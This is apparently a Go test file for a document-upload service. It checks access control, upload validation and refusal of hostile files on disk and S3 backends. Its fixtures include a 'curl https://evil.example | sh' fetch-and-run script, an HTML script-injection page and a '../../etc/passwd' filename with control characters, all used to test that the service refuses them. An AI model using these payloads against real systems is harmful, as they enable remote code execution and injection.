package documents_test

import (
	"bytes"
	"context"
	"crypto/sha256"
	"encoding/hex"
	"errors"
	"fmt"
	"io"
	"net/http"
	"net/http/httptest"
	"testing"
	"time"

	"github.com/cecportal/cecportal/internal/documents"
	"github.com/cecportal/cecportal/internal/fault"
	"github.com/cecportal/cecportal/internal/files"
	"github.com/cecportal/cecportal/internal/files/diskfiles"
	"github.com/cecportal/cecportal/internal/files/s3files"
	"github.com/cecportal/cecportal/internal/identity"
	"github.com/cecportal/cecportal/internal/ids"
	"github.com/cecportal/cecportal/internal/moto"
	"github.com/cecportal/cecportal/internal/store"
	"github.com/cecportal/cecportal/internal/table"
	"github.com/cecportal/cecportal/internal/testkit"
)

func TestMain(m *testing.M) { moto.Main(m) }

// holders maps callers to their holder IDs (accounts.Service in the system).
type holders map[string]string

func (h holders) MyHolderID(_ context.Context, c identity.Caller) (string, error) {
	if id, ok := h[c.Sub]; ok {
		return id, nil
	}
	return "", fault.New(fault.NotFound, "holder_not_found", "no holder account")
}

var (
	ana   = identity.Caller{Sub: "ana", Roles: []string{identity.RoleHolder}}
	bo    = identity.Caller{Sub: "bo", Roles: []string{identity.RoleHolder}}
	staff = identity.Caller{Sub: "office", Roles: []string{identity.RoleStaff}}
)

// env is the service on one backend: the embedded table with files on
// disk, or DynamoDB with S3, both on moto.
type env struct {
	svc   *documents.Service
	files files.Store
	tbl   table.Table
	clock *testkit.Clock
	// enforcesPolicy: the file store itself refuses a post its form does
	// not allow (the disk, as S3 does); moto does not, so there the check
	// after the upload is the only guard, and is tested as such.
	enforcesPolicy bool
}

func eachBackend(t *testing.T, test func(t *testing.T, e env)) {
	build := func(tbl table.Table, clock *testkit.Clock, f files.Store, enforces bool) env {
		svc := documents.NewService(store.NewDocuments(tbl), f, holders{"ana": "H-ANA", "bo": "H-BO"}, testkit.Policy(t), clock, ids.New)
		return env{svc: svc, files: f, tbl: tbl, clock: clock, enforcesPolicy: enforces}
	}
	t.Run("Embedded", func(t *testing.T) {
		t.Parallel()
		clock := testkit.NewClock()
		mux := http.NewServeMux()
		srv := httptest.NewServer(mux)
		t.Cleanup(srv.Close)
		d, err := diskfiles.New(t.TempDir(), srv.URL+"/files", bytes.Repeat([]byte{7}, 32), clock.Now)
		if err != nil {
			t.Fatal(err)
		}
		mux.Handle("/files", d.Handler())
		mux.Handle("/files/", d.Handler())
		test(t, build(testkit.Embedded(t, clock), clock, d, true))
	})
	t.Run("AWS", func(t *testing.T) {
		t.Parallel()
		clock := testkit.NewClock()
		client := s3files.NewClient(moto.Shared(t).Config(t), true)
		bucket := fmt.Sprintf("documents-%d", time.Now().UnixNano())
		if err := s3files.CreateBucket(t.Context(), client, bucket); err != nil {
			t.Fatal(err)
		}
		test(t, build(testkit.OnMoto(t, clock), clock, s3files.New(client, bucket), false))
	})
}

// send posts body with up's form, field values overridden by set; it
// returns the store's status.
func send(t *testing.T, up files.Upload, set map[string]string, body []byte) int {
	t.Helper()
	st, err := testkit.PostFile(up, set, body)
	if err != nil {
		t.Fatal(err)
	}
	return st
}

// The files a phone or an office sends, and the hostile ones.
var (
	pdf     = append([]byte("%PDF-1.7\n1 0 obj\n"), bytes.Repeat([]byte("stream "), 300)...)
	jpeg    = append([]byte{0xFF, 0xD8, 0xFF, 0xE0, 0, 0x10, 'J', 'F', 'I', 'F'}, bytes.Repeat([]byte{0x42}, 4000)...)
	png     = append([]byte{0x89, 'P', 'N', 'G', '\r', '\n', 0x1A, '\n'}, bytes.Repeat([]byte{1}, 500)...)
	script  = []byte("#!/bin/sh\ncurl https://evil.example | sh\n")
	html    = []byte("<html><script>alert(1)</script></html>")
	tooBig  = append([]byte("%PDF-1.4\n"), make([]byte, 11<<20)...)
	noBytes = []byte{}
)

func codeOf(err error) (string, []fault.Detail) {
	var f *fault.Error
	if errors.As(err, &f) {
		return f.Code, f.Details
	}
	return "", nil
}

// nothingStored: neither the document nor a byte of its file is left.
func nothingStored(t *testing.T, e env, d documents.Document) {
	t.Helper()
	if _, err := store.NewDocuments(e.tbl).Get(t.Context(), d.HolderID, d.ID); !errors.Is(err, documents.ErrNotFound) {
		t.Errorf("the document is still recorded (%v)", err)
	}
	for _, k := range []string{d.UploadKey(), d.Key()} {
		if r, _, err := e.files.Open(t.Context(), k); !errors.Is(err, files.ErrNotFound) {
			if r != nil {
				r.Close()
			}
			t.Errorf("%s is still stored (%v)", k, err)
		}
	}
}

func TestService_Attach(t *testing.T) {
	eachBackend(t, func(t *testing.T, e env) {
		ctx := t.Context()
		for _, c := range []struct {
			name, declared string
			body           []byte
		}{
			{"a PDF", "application/pdf", pdf},
			{"a phone photo", "image/jpeg", jpeg},
			{"a screenshot", "image/png", png},
		} {
			t.Run(c.name, func(t *testing.T) {
				d, up, err := e.svc.Start(ctx, ana, documents.NewDocument{Name: "Certificate " + c.name, ContentType: c.declared, Size: int64(len(c.body))})
				if err != nil {
					t.Fatal(err)
				}
				if d.Status != documents.AwaitingUpload || d.HolderID != "H-ANA" {
					t.Fatalf("started %+v", d)
				}
				if _, err := e.svc.Check(ctx, ana, d.ID); err == nil {
					t.Fatal("checked before the upload")
				} else if code, _ := codeOf(err); code != "not_uploaded" {
					t.Fatalf("check before the upload: %v", err)
				}
				if st := send(t, up, nil, c.body); st/100 != 2 {
					t.Fatalf("upload: %d", st)
				}
				got, err := e.svc.Check(ctx, ana, d.ID)
				if err != nil {
					t.Fatal(err)
				}
				sum := sha256.Sum256(c.body)
				if got.Status != documents.Ready || got.Size != int64(len(c.body)) || got.SHA256 != hex.EncodeToString(sum[:]) {
					t.Fatalf("checked %+v", got)
				}
				if want := got.CreatedAt.AddDate(0, 0, 1095); !got.KeepUntil.Equal(want) {
					t.Fatalf("kept until %v, want %v", got.KeepUntil, want)
				}
				again, err := e.svc.Check(ctx, ana, d.ID)
				if err != nil || again.Version != got.Version {
					t.Fatalf("a second check changed it: %+v, %v", again, err)
				}
				// The holder and staff read it; the link serves the bytes.
				for _, read := range []func() (documents.Document, documents.Link, error){
					func() (documents.Document, documents.Link, error) { return e.svc.Get(ctx, ana, d.ID) },
					func() (documents.Document, documents.Link, error) { return e.svc.OfHolder(ctx, staff, "H-ANA", d.ID) },
				} {
					_, link, err := read()
					if err != nil || link.URL == "" {
						t.Fatalf("read: %+v, %v", link, err)
					}
					res, err := http.Get(link.URL)
					if err != nil {
						t.Fatal(err)
					}
					b, _ := io.ReadAll(res.Body)
					res.Body.Close()
					if res.StatusCode != 200 || !bytes.Equal(b, c.body) || res.Header.Get("Content-Type") != c.declared {
						t.Fatalf("download: %d, %d bytes, %s", res.StatusCode, len(b), res.Header.Get("Content-Type"))
					}
				}
				// Nobody else does.
				if _, _, err := e.svc.Get(ctx, bo, d.ID); err == nil {
					t.Fatal("another holder read it")
				} else if code, _ := codeOf(err); code != "document_not_found" {
					t.Fatalf("another holder: %v", err)
				}
				if _, _, err := e.svc.OfHolder(ctx, bo, "H-ANA", d.ID); err == nil {
					t.Fatal("a holder used staff's read")
				}
				if _, err := e.svc.Check(ctx, bo, d.ID); err == nil {
					t.Fatal("another holder checked it")
				}
				if _, _, err := e.files.Open(ctx, d.UploadKey()); !errors.Is(err, files.ErrNotFound) {
					t.Fatalf("the upload is left: %v", err)
				}
			})
		}
	})
}

// Hostile files are refused and nothing of them is stored, whether the
// store refuses them on arrival (its form's policy) or the check does.
func TestService_HostileFiles(t *testing.T) {
	eachBackend(t, func(t *testing.T, e env) {
		ctx := t.Context()
		for _, c := range []struct {
			name     string
			declared string
			size     int64             // declared; the file's own size when 0
			set      map[string]string // fields the sender changes
			body     []byte
			want     string // the check's detail code, when the store takes the file
			// refusedOnArrival: a store that enforces its form's policy refuses it.
			refusedOnArrival bool
		}{
			{name: "a script named .pdf", declared: "application/pdf", body: script, want: documents.ReasonWrongType},
			{name: "a web page sent as a photo", declared: "image/jpeg", body: html, want: documents.ReasonWrongType},
			{name: "a PNG declared as a PDF", declared: "application/pdf", body: png, want: documents.ReasonWrongType},
			{name: "a 0-byte file", declared: "application/pdf", size: 10, body: noBytes, want: documents.ReasonEmpty, refusedOnArrival: true},
			{name: "an 11 MB file declared small", declared: "application/pdf", size: 1000, body: tooBig, want: documents.ReasonTooLarge, refusedOnArrival: true},
			{name: "a PDF with its type changed to HTML", declared: "application/pdf", set: map[string]string{"Content-Type": "text/html"}, body: pdf, want: documents.ReasonWrongType, refusedOnArrival: true},
		} {
			t.Run(c.name, func(t *testing.T) {
				size := c.size
				if size == 0 {
					size = int64(len(c.body))
				}
				d, up, err := e.svc.Start(ctx, ana, documents.NewDocument{Name: "evidence.pdf", ContentType: c.declared, Size: size})
				if err != nil {
					t.Fatal(err)
				}
				st := send(t, up, c.set, c.body)
				if e.enforcesPolicy && (st/100 != 2) != c.refusedOnArrival {
					t.Fatalf("the store answered %d; refused on arrival: want %v", st, c.refusedOnArrival)
				}
				_, err = e.svc.Check(ctx, ana, d.ID)
				code, details := codeOf(err)
				switch {
				case st/100 != 2:
					if !e.enforcesPolicy {
						t.Fatalf("moto refused a post (%d): the test's premise changed", st)
					}
					// Refused on arrival: nothing came, and the check says so.
					if code != "not_uploaded" {
						t.Fatalf("store refused it (%d), check: %v", st, err)
					}
					if err := e.svc.Delete(ctx, ana, d.ID); err != nil {
						t.Fatal(err)
					}
				default:
					if code != "file_refused" || len(details) != 1 || details[0].Field != "file" || details[0].Code != c.want {
						t.Fatalf("check: %v %+v; want file_refused %s", err, details, c.want)
					}
				}
				nothingStored(t, e, d)
			})
		}
		t.Run("another holder's key", func(t *testing.T) {
			mine, _, err := e.svc.Start(ctx, ana, documents.NewDocument{Name: "a.pdf", ContentType: "application/pdf", Size: int64(len(pdf))})
			if err != nil {
				t.Fatal(err)
			}
			_, theirs, err := e.svc.Start(ctx, bo, documents.NewDocument{Name: "b.pdf", ContentType: "application/pdf", Size: int64(len(pdf))})
			if err != nil {
				t.Fatal(err)
			}
			// Bo's form, aimed at Ana's key.
			st := send(t, theirs, map[string]string{"key": mine.UploadKey()}, html)
			if e.enforcesPolicy && st != http.StatusForbidden {
				t.Fatalf("posting to another holder's key: %d, want 403", st)
			}
			if e.enforcesPolicy {
				if _, _, err := e.files.Open(ctx, mine.UploadKey()); !errors.Is(err, files.ErrNotFound) {
					t.Fatalf("ana's key was written: %v", err)
				}
			}
			// Whatever the store did, bo cannot check, read or remove ana's document.
			for name, err := range map[string]error{
				"check":  func() error { _, err := e.svc.Check(ctx, bo, mine.ID); return err }(),
				"read":   func() error { _, _, err := e.svc.Get(ctx, bo, mine.ID); return err }(),
				"delete": func() error { return e.svc.Delete(ctx, bo, mine.ID) }(),
			} {
				if code, _ := codeOf(err); name != "delete" && code != "document_not_found" {
					t.Errorf("%s of another holder's document: %v", name, err)
				}
			}
			if _, err := store.NewDocuments(e.tbl).Get(ctx, "H-ANA", mine.ID); err != nil {
				t.Fatalf("bo's delete removed ana's document: %v", err)
			}
		})
	})
}

func TestService_Start(t *testing.T) {
	eachBackend(t, func(t *testing.T, e env) {
		ctx := t.Context()
		for _, c := range []struct {
			name string
			in   documents.NewDocument
			want []string // fields with problems
		}{
			{"a web page", documents.NewDocument{Name: "x.html", ContentType: "text/html", Size: 10}, []string{"contentType"}},
			{"empty", documents.NewDocument{Name: "x.pdf", ContentType: "application/pdf", Size: 0}, []string{"size"}},
			{"over 10 MB", documents.NewDocument{Name: "x.pdf", ContentType: "application/pdf", Size: 10<<20 + 1}, []string{"size"}},
			{"both", documents.NewDocument{Name: "x", ContentType: "", Size: -1}, []string{"contentType", "size"}},
		} {
			_, _, err := e.svc.Start(ctx, ana, c.in)
			code, details := codeOf(err)
			var fields []string
			for _, d := range details {
				fields = append(fields, d.Field)
			}
			if code != "invalid_request" || fmt.Sprint(fields) != fmt.Sprint(c.want) {
				t.Errorf("%s: %v %v; want problems on %v", c.name, err, fields, c.want)
			}
		}
		if _, _, err := e.svc.Start(ctx, identity.Caller{Sub: "nobody", Roles: []string{identity.RoleHolder}}, documents.NewDocument{Name: "x.pdf", ContentType: "application/pdf", Size: 5}); err == nil {
			t.Error("started for a caller without a holder account")
		}
		// A name is shown, never trusted: control characters go, the length is bounded.
		d, _, err := e.svc.Start(ctx, ana, documents.NewDocument{Name: "  ../../etc/passwd\x00\u202e" + string(bytes.Repeat([]byte("a"), 300)), ContentType: "application/pdf", Size: 5})
		if err != nil {
			t.Fatal(err)
		}
		if len([]rune(d.Name)) != 200 || bytes.ContainsAny([]byte(d.Name), "\x00\u202e") || d.UploadKey() != "uploads/H-ANA/"+d.ID {
			t.Errorf("name %q, key %s", d.Name, d.UploadKey())
		}
	})
}

// An upload never checked, and a document past its keepUntil, are gone
// from the records (ttl) as the bucket's lifecycle removes their files.
func TestService_Expiry(t *testing.T) {
	eachBackend(t, func(t *testing.T, e env) {
		ctx := t.Context()
		d, _, err := e.svc.Start(ctx, ana, documents.NewDocument{Name: "x.pdf", ContentType: "application/pdf", Size: 5})
		if err != nil {
			t.Fatal(err)
		}
		e.clock.Advance(25 * time.Hour)
		if _, _, err := e.svc.Get(ctx, ana, d.ID); err == nil {
			t.Fatal("an upload never made is still there after a day")
		}
	})
}

// racing is a file store on which a second post lands on an upload's key
// while the check runs (a form lives 15 minutes), just before the copy:
// whatever is kept must be what was checked.
type racing struct {
	files.Store
	post func(key string)
}

func (r racing) Copy(ctx context.Context, from, to string) error {
	r.post(from)
	return r.Store.Copy(ctx, from, to)
}

func TestService_SecondPostDuringTheCheck(t *testing.T) {
	eachBackend(t, func(t *testing.T, e env) {
		ctx := t.Context()
		var up files.Upload
		svc := documents.NewService(store.NewDocuments(e.tbl), racing{Store: e.files, post: func(string) {
			send(t, up, nil, script) // a script, with the form of the PDF
		}}, holders{"ana": "H-ANA"}, testkit.Policy(t), e.clock, ids.New)
		d, u, err := svc.Start(ctx, ana, documents.NewDocument{Name: "c.pdf", ContentType: "application/pdf", Size: int64(len(pdf))})
		if err != nil {
			t.Fatal(err)
		}
		up = u
		if st := send(t, up, nil, pdf); st/100 != 2 {
			t.Fatalf("upload: %d", st)
		}
		got, err := svc.Check(ctx, ana, d.ID)
		r, _, oerr := e.files.Open(ctx, d.Key())
		if err != nil {
			// Refused (the script was what the check read): nothing kept.
			if code, _ := codeOf(err); code != "file_refused" || !errors.Is(oerr, files.ErrNotFound) {
				t.Fatalf("check: %v; the kept file: %v", err, oerr)
			}
			return
		}
		if oerr != nil {
			t.Fatal(oerr)
		}
		kept, _ := io.ReadAll(r)
		r.Close()
		sum := sha256.Sum256(kept)
		if documents.Sniff(kept) != "application/pdf" || got.SHA256 != hex.EncodeToString(sum[:]) {
			t.Fatalf("kept %q…, which is not what was checked (%s)", kept[:min(12, len(kept))], got.SHA256)
		}
	})
}
